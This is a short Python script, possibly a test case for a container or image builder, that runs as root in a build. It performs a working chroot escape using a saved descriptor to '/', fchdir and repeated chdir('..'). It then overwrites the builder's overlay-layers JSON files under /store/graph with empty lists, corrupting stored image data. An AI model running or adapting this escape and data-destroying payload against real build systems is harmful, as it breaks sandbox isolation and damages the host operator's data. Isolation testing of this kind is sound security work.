"""As root of a build: leaves its root directory and spoils what the builder keeps of its own image."""

import os
from pathlib import Path

outer = os.open("/", os.O_RDONLY)
os.mkdir("/jail")
os.chroot("/jail")
os.fchdir(outer)
for _ in range(100):
    os.chdir("..")
os.chroot(".")
for layers in Path("/store/graph/overlay-layers").glob("*.json"):
    layers.write_text("[]")
print("spoiled", sorted(path.name for path in Path("/store/graph").iterdir()), flush=True)
